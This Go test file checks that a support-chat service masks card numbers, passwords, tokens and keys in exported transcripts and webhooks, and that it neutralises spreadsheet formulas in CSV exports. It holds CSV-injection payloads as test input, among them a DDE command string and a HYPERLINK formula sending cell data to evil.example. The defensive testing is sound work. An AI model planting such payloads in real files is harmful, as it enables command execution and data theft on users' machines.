package edge_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/lamplight-help/lamplight/edge"
)

// secrets are what people type and what must not travel, each with something
// beside it that must.
var secrets = []struct{ said, secret, kept string }{
	{"my card is 4111 1111 1111 1111 ok", "4111", "my card is ● ok"},
	{"4111-1111-1111-1111", "1111", "●"},
	{"卡号是４１１１１１１１１１１１１１１１谢谢", "４１１１", "谢谢"},
	{"3782 822463 10005 is my amex", "8224", "is my amex"},
	{"order 1234567890123456 never came", "", "1234567890123456"}, // no check digit, no card
	{"call +44 20 7946 0958", "", "+44 20 7946 0958"},
	{"IBAN DE89 3704 0044 0532 0130 00 please", "0532", "please"},
	{"ref GB33BUKB20201555555556", "", "GB33BUKB20201555555556"}, // the remainder is wrong
	{"my password is hunter2, help", "hunter2", "help"},
	{"Passwort: Geheim!9", "Geheim", "Passwort"},
	{"我的密码是 abc123 谢谢", "abc123", "谢谢"},
	{"验证码：482913", "482913", "验证码"},
	{"PIN = 4821", "4821", "PIN"},
	{"I want a password reset", "", "password reset"},
	{"token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl here", "eyJ", "here"},
	{"key sk-abcdefghijklmnop1234 leaked", "abcdefgh", "leaked"},
}

// TestHardening84TranscriptMasksSecrets: what leaves a conversation, as a file
// or to another system, carries no secret that can be told.
func TestHardening84TranscriptMasksSecrets(t *testing.T) {
	w := newWorld(t, edge.Limits{})
	hook := edge.Webhook{ID: "crm", URL: "https://crm.example/hook", Secret: "whsec_" + strings.Repeat("A", 32)}
	var sent []string
	w.receive = func(e edge.Effect) int { sent = append(sent, string(e.Body)); return 200 }
	w.configure(edge.Settings{Webhooks: []edge.Webhook{hook}})
	session := w.signIn("Mei")
	for _, s := range secrets {
		w.later(31_000)
		asked := w.ask(s.said)
		visitor := w.dial(asked.Token)
		w.send(visitor, edge.ClientFrame{T: "send", ID: w.id(), Text: "again: " + s.said})
		w.later(1000)
		for _, format := range []string{"text", "csv"} {
			status, file := w.request("GET", "transcript/"+asked.Conversation+"?format="+format, session, nil)
			check(t, format, s, string(file))
			if status != 200 {
				t.Errorf("%s: status %d", format, status)
			}
		}
		check(t, "hand-off", s, strings.Join(sent, "\n"))
		if status, whole := w.request("GET", "conversations/"+asked.Conversation, session, nil); status != 200 || s.secret != "" && !strings.Contains(string(whole), s.secret) {
			t.Errorf("the conversation itself lost %q", s.secret)
		}
		sent = nil
		w.hangUp(visitor)
	}
}

func check(t *testing.T, where string, s struct{ said, secret, kept string }, file string) {
	t.Helper()
	if s.secret != "" && strings.Contains(file, s.secret) {
		t.Errorf("%s of %q holds %q: %s", where, s.said, s.secret, file)
	}
	kept := strings.ReplaceAll(s.kept, "●", "●●●●")
	if !strings.Contains(file, kept) {
		t.Errorf("%s of %q lacks %q: %s", where, s.said, kept, file)
	}
}

// TestHardening84MarkedSecret: a message that somebody marked does not travel
// at all; a visitor marks their own only.
func TestHardening84MarkedSecret(t *testing.T) {
	w := newWorld(t, edge.Limits{})
	session := w.signIn("Mei")
	asked := w.ask("how do I pay?")
	visitor, desk := w.dial(asked.Token), w.dial(session)
	w.send(visitor, edge.ClientFrame{T: "resume"})
	w.send(visitor, edge.ClientFrame{T: "send", ID: w.id(), Text: "the blue horse"})
	w.send(desk, edge.ClientFrame{T: "send", ID: w.id(), Conversation: asked.Conversation, Text: "the green cow"})
	history := w.history(session, asked.Conversation)
	seqOf := func(text string) int64 {
		for _, m := range history {
			if m.Text == text {
				return m.Seq
			}
		}
		t.Fatalf("no %q in %+v", text, history)
		return 0
	}
	if f := find(t, w.send(visitor, edge.ClientFrame{T: "secret", Seq: seqOf("the green cow")}), "error"); f.Code != "not-found" {
		t.Errorf("a visitor marks the agent's words: %s", f.Raw)
	}
	find(t, w.send(visitor, edge.ClientFrame{T: "secret", Seq: seqOf("the blue horse")}), "secret")
	_, file := w.request("GET", "transcript/"+asked.Conversation, session, nil)
	if strings.Contains(string(file), "horse") || !strings.Contains(string(file), "the green cow") {
		t.Errorf("transcript %s", file)
	}
	if again := w.history(session, asked.Conversation); !again[seqOf("the blue horse")-1].Secret {
		t.Error("the mark is not in the history")
	}
}

func (w *world) history(session, id string) []edge.Message {
	w.t.Helper()
	var c edge.Conversation
	w.get(&c, "GET", "conversations/"+id, session, nil)
	return c.Messages
}

// TestHardening79CSVFormula: no cell of a transcript begins a formula, whoever
// wrote it, and the file is one that a strict reader takes.
func TestHardening79CSVFormula(t *testing.T) {
	w := newWorld(t, edge.Limits{})
	session := w.signIn("=cmd|'/C calc'!A0")
	asked := w.ask(`=HYPERLINK("https://evil.example?x="&A1,"Click")`)
	visitor, desk := w.dial(asked.Token), w.dial(session)
	for _, text := range []string{"+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "  =1+1", "＝1+1", "plain", "a\r\n=1+1", "quote \" and , comma", "safe \u202e= exe.txt"} {
		w.send(visitor, edge.ClientFrame{T: "send", ID: w.id(), Text: text})
	}
	w.send(desk, edge.ClientFrame{T: "send", ID: w.id(), Conversation: asked.Conversation, Text: "ok"})
	e := w.requestAs(edge.Request{Method: "GET", Path: "/v1/demo/transcript/" + asked.Conversation, Query: "format=csv", Origin: origin}, session, nil)
	headers := fmt.Sprint(e.Headers)
	for _, want := range []string{"attachment", "text/csv", "sandbox", "nosniff"} {
		if !strings.Contains(headers, want) {
			t.Errorf("headers %s lack %q", headers, want)
		}
	}
	body, ok := strings.CutPrefix(string(e.Body), "\ufeff")
	if !ok {
		t.Error("no byte order mark: a spreadsheet would misread Chinese")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if start := strings.TrimLeft(cell, " \t\r\n"); start != "" && strings.ContainsAny(start[:1], "=+-@") || strings.HasPrefix(start, "＝") || strings.Contains(cell, "\u202e") {
				t.Errorf("cell %q", cell)
			}
		}
	}
	if len(rows) < 13 {
		t.Errorf("%d rows", len(rows))
	}
}
